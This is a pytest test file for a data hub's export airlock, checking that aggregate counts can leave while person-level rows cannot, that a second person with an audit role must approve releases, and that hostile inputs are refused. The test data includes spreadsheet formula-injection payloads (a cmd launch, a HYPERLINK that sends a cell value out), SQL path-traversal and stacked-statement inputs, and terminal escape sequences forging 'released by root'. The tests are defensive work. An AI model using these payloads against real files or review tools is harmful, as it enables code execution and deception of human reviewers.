"""The airlock over the wire: what leaves, when, to whom, and what is recorded of it."""

import re
import sqlite3
import subprocess

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from conftest import Hub, binary, fresh_database, start

CONFIG = """
[server]
flight = "127.0.0.1:0"
http = "127.0.0.1:0"
zone = "{zone}"
{database}

[workers]
listen = "127.0.0.1:0"

[[dataset]]
name = "clinic"
producer = "tests"
folder = "clinic"

[[dataset.table]]
name = "stays"
location = "stays"
person = {{ column = "person" }}

[[person]]
id = "alice"

[[person]]
id = "bob"
"""

PROJECT = """
[[project]]
id = "{id}"
members = ["{member}"]
valid_from = "2000-01-01"
valid_to = "2999-01-01"

[[habilitation]]
project = "{id}"
dataset = "clinic"
decision = "tests"
valid_from = "2000-01-01"
valid_to = "2999-01-01"
"""

CELLS = "SELECT ward, count(DISTINCT person) AS persons FROM clinic.stays GROUP BY ward"
SUMS = "SELECT ward, count(DISTINCT person) AS persons, sum(age) AS ages FROM clinic.stays GROUP BY ward"
PERSONS = 400


def admin(config, *words, token=None):
    return subprocess.run(
        [binary("flight-server"), "admin", *words, "--config", str(config),
         *(["--token", token] if token else [])],
        capture_output=True, text=True)


def done(config, *words, token=None):
    ended = admin(config, *words, token=token)
    assert ended.returncode == 0, ended.stderr
    return ended.stdout


def token_of(config, person, project):
    said = done(config, "token", "create", "--person", person, "--project", project, "--days", "2")
    return re.search(r"hubpat_\S+", said).group(0)


class Served:
    """One store, served inside or outside in turn: a hub listens to both at once in production,
    and a test cannot name two free ports."""

    def __init__(self, folder):
        self.folder, self.config, self.hub = folder, folder / "hub.toml", None
        self.database = fresh_database()
        stays = pa.table({
            "person": [n // 3 for n in range(3 * PERSONS)],
            "ward": ["north", "south"] * (3 * PERSONS // 2),
            "age": [20 + n // 3 % 60 for n in range(3 * PERSONS)],
        })
        (folder / "clinic" / "stays").mkdir(parents=True)
        pq.write_table(stays, folder / "clinic" / "stays" / "part.parquet")
        self.zone("inside")
        self.tokens = {"alice": token_of(self.config, "alice", "study"),
                       "bob": token_of(self.config, "bob", "other")}
        said = done(self.config, "init", "--id", "root", "--name", "Root")
        self.root = re.search(r"hubpat_\S+", said).group(0)

    def zone(self, name):
        self.stop()
        self.config.write_text(CONFIG.format(zone=name, database=f'database = "{self.database}"' if self.database else "") + PROJECT.format(id="study", member="alice")
                               + PROJECT.format(id="other", member="bob"))
        self.hub: Hub = start(["serve", "--config", str(self.config)], self.folder,
                              self.folder / "serve.log")

    def stop(self):
        if self.hub:
            self.hub.stop()
            self.hub = None

    def ask(self, sql, person="alice"):
        with self.hub.connect(person, password=self.tokens[person]) as connection:
            with connection.cursor() as cursor:
                cursor.execute(sql)
                return cursor.fetch_arrow_table()

    def change(self, sql):
        with self.hub.connect("alice", password=self.tokens["alice"]) as connection:
            with connection.cursor() as cursor:
                cursor.execute(sql)
                return cursor.rowcount

    def refusal(self, sql, person="alice"):
        with pytest.raises(Exception) as caught:
            self.ask(sql, person)
        return str(caught.value)

    def request(self, name, sql, purpose="an article"):
        sql = sql.replace("'", "''")
        return f"CALL hub.request_export('{sql}', '{name}', '{purpose}')"

    def state(self, name):
        found = self.ask(f"SELECT id, state, findings FROM hub.exports WHERE name = '{name}' "
                         "ORDER BY requested_at DESC LIMIT 1").to_pylist()
        return found[0]

    def events(self):
        return [row["event"] for row in self.ask(
            "SELECT event FROM hub.audit WHERE event LIKE 'export%'").to_pylist()]


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    served = Served(tmp_path_factory.mktemp("airlock"))
    yield served
    served.stop()


def test_counts_of_persons_leave_and_rows_do_not(served):
    served.change(served.request("cells", CELLS))
    assert served.state("cells")["state"] == "released"
    text = served.refusal(served.request("rows", "SELECT person, age FROM clinic.stays"))
    assert "(PermissionDenied;" in text and "column `person`" in text, text
    assert served.state("rows")["state"] == "refused"
    served.zone("outside")
    try:
        found = served.ask("SELECT * FROM exports.cells ORDER BY ward").to_pylist()
        assert found == [{"ward": "north", "persons": PERSONS}, {"ward": "south", "persons": PERSONS}]
        for sql in (CELLS, "SELECT * FROM exports.rows", "SELECT * FROM exports.never",
                    served.request("mine", "SELECT 1 AS a"),
                    "SELECT * FROM exports.cells c, hub.usage u"):
            served.refusal(sql)
        listed = served.ask("SELECT name, findings FROM hub.exports").to_pylist()
        assert listed == [{"name": "cells", "findings": None}]
    finally:
        served.zone("inside")


def test_a_second_person_decides_and_who_benefits_is_none(served):
    served.change(served.request("sums", SUMS))
    waiting = served.state("sums")
    assert waiting["state"] == "waiting" and "one person mostly" in waiting["findings"]
    for person in ("alice", "bob"):
        assert "(NotFound;" in served.refusal("SELECT * FROM exports.sums", person)
    shown = done(served.config, "export", "show", waiting["id"])
    assert "an article" in shown and "ages" in shown and "origin asks" in shown
    assert "north" not in shown, "no value is shown"
    done(served.config, "person", "add", "--id", "eve", "--name", "Eve", "--role", "billing")
    eve = token_of(served.config, "eve", "admin")
    refused = admin(served.config, "export", "release", waiting["id"], token=eve)
    assert refused.returncode != 0 and "role `audit`" in refused.stderr, refused.stderr
    # A member who is an administrator as well.
    done(served.config, "person", "roles", "alice", "--role", "audit")
    alice = token_of(served.config, "alice", "admin")
    refused = admin(served.config, "export", "release", waiting["id"], token=alice)
    assert refused.returncode != 0 and "cannot decide" in refused.stderr, refused.stderr
    assert served.state("sums")["state"] == "waiting"

    said = done(served.config, "export", "release", waiting["id"], token=served.root)
    assert "released" in said
    assert served.ask("SELECT * FROM exports.sums").num_rows == 2
    assert "(NotFound;" in served.refusal("SELECT * FROM exports.sums", "bob")
    done(served.config, "export", "withdraw", waiting["id"], token=served.root)
    assert "(NotFound;" in served.refusal("SELECT * FROM exports.sums")
    assert served.state("sums")["state"] == "withdrawn"
    for event in ("export_requested", "export_released", "export_downloaded", "export_withdrawn"):
        assert event in served.events(), event


def test_rows_that_are_written_by_hand_do_not_leave_either(served):
    served.change("CREATE TABLE space.laundered AS SELECT 'p1' AS person, 42 AS age")
    served.zone("outside")
    try:
        for sql in ("SELECT * FROM space.laundered", "DELETE FROM space.laundered WHERE age = 42",
                    "SELECT count(*) FROM space.laundered"):
            text = served.refusal(sql)
            assert "(PermissionDenied;" in text and "request_export" in text, text
    finally:
        served.zone("inside")
    assert served.ask("SELECT * FROM space.laundered").num_rows == 1


def test_a_package_that_was_tampered_with_stays_shut(served):
    served.change(served.request("whole", CELLS))
    package = served.folder / "hubflight-state" / "airlock" / served.state("whole")["id"] / "package"
    sealed = package.read_bytes()
    assert b"north" not in sealed and package.stat().st_mode & 0o777 == 0o600
    package.write_bytes(sealed[:100] + bytes([sealed[100] ^ 1]) + sealed[101:])
    assert "is damaged" in served.refusal("SELECT * FROM exports.whole")
    package.write_bytes(sealed)
    assert served.ask("SELECT * FROM exports.whole").num_rows == 2


@pytest.mark.parametrize("call", [
    "CALL hub.request_export('SELECT 1 AS a', '../x', 'p')",
    "CALL hub.request_export('SELECT 1 AS a', 'x', '')",
    "CALL hub.request_export('DROP TABLE space.t', 'x', 'p')",
    "CALL hub.request_export('SELECT 1 AS a; SELECT 2 AS a', 'x', 'p')",
    "CALL hub.request_export('SELECT * FROM hub.audit', 'x', 'p')",
    "CALL hub.request_export('CALL hub.request_export(''SELECT 1'', ''y'', ''p'')', 'x', 'p')",
    "CALL hub.request_export('SELECT ? AS a', 'x', 'p')",
])
def test_calls_that_mean_something_else_are_refused(served, call):
    assert "(InvalidArgument;" in served.refusal(call)
    assert served.ask("SELECT * FROM hub.exports WHERE name IN ('x', 'y')").num_rows == 0


# What a spreadsheet computes when a file of text is opened with it.
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://x/"&A1)']


def test_formulas_that_are_uploaded_stay_texts(served):
    """Nothing is computed here, and nothing is changed: a text comes back as it went."""
    served.change("CREATE TABLE space.cells (n INT, v VARCHAR)")
    with served.hub.connect("alice", password=served.tokens["alice"]) as connection, connection.cursor() as cursor:
        cursor.adbc_prepare("INSERT INTO space.cells VALUES (?, ?)")
        cursor.adbc_statement.bind(pa.record_batch({"n": pa.array(range(len(FORMULAS)), pa.int32()), "v": pa.array(FORMULAS)}))
        cursor.adbc_statement.execute_update()
    assert served.ask("SELECT v FROM space.cells ORDER BY n")["v"].to_pylist() == FORMULAS
    # A client that writes it as text makes the formula.
    written = pa.BufferOutputStream()
    pacsv.write_csv(pa.table({"v": FORMULAS[:1]}), written)
    assert b"=cmd|" in written.getvalue().to_pybytes()
    served.change("DROP TABLE space.cells")


@pytest.mark.parametrize("formula", FORMULAS[:4] + FORMULAS[6:])
@pytest.mark.parametrize("place", ["cell", "name"])
def test_formulas_do_not_leave_unseen(served, place, formula):
    """Whoever opens the released table in a spreadsheet runs what its author wrote."""
    text, word = formula.replace("'", "''"), formula.replace('"', "")
    sql = {"cell": f"SELECT CASE WHEN ward = 'north' THEN '{text}' ELSE 'x' END AS ward, count(DISTINCT person) AS persons "
                   "FROM clinic.stays GROUP BY 1",
           "name": f'SELECT ward AS "{word}", count(DISTINCT person) AS persons FROM clinic.stays GROUP BY ward'}[place]
    name = f"formula_{place}_{FORMULAS.index(formula)}"
    try:
        served.change(served.request(name, sql))
    except Exception as error:  # noqa: BLE001 - the driver's
        assert "InvalidArgument" in str(error) or "PermissionDenied" in str(error), error
        return
    found = served.state(name)
    if found["state"] == "released":
        # Room for other tests: so many leave alone a day.
        served.change(f"CALL hub.withdraw_export('{name}')")
    assert found["state"] == "waiting" and "formula" in found["findings"], found


@pytest.mark.parametrize("character", [
    "\x1b]0;x\x07", "\x1b[2J", "\n", "\r", "\x00", "\x9b2J",
    "\u202e",
])
def test_nothing_that_is_asked_for_moves_the_cursor_of_who_decides(served, character):
    """`admin export show` prints the words of who asks."""
    text = f"an article{character}released by root"
    with pytest.raises(Exception, match="InvalidArgument"):
        served.change(served.request("cursor", SUMS, text))
    with pytest.raises(Exception, match="InvalidArgument"):
        served.change(served.request("cursor", SUMS.replace("AS ages", f'AS "ages{character}"')))
    served.change(served.request("cursor", SUMS, "an article"))
    assert "an article" in done(served.config, "export", "show", served.state("cursor")["id"])
    served.change("CALL hub.withdraw_export('cursor')")


def test_words_that_are_not_refused_would_reach_who_decides(served):
    """What they read is what was stored, as it is: nothing after the refusal stands before it."""
    if served.database:
        pytest.skip("the store's own triggers are taken out, which is written for SQLite")
    served.change(served.request("words", SUMS, "an article"))
    identifier = served.state("words")["id"]
    with sqlite3.connect(served.folder / "hubflight-state" / "hub.sqlite", timeout=10) as store:
        triggers = store.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'exports'").fetchall()
        for name, _ in triggers:
            store.execute(f"DROP TRIGGER {name}")
        store.execute("UPDATE exports SET purpose = ? WHERE id = ?", ("an article\x1b[2Jreleased by root", identifier))
        for _, sql in triggers:
            store.execute(sql)
    store.close()
    assert "\x1b[2Jreleased by root" in done(served.config, "export", "show", identifier)
    served.change("CALL hub.withdraw_export('words')")
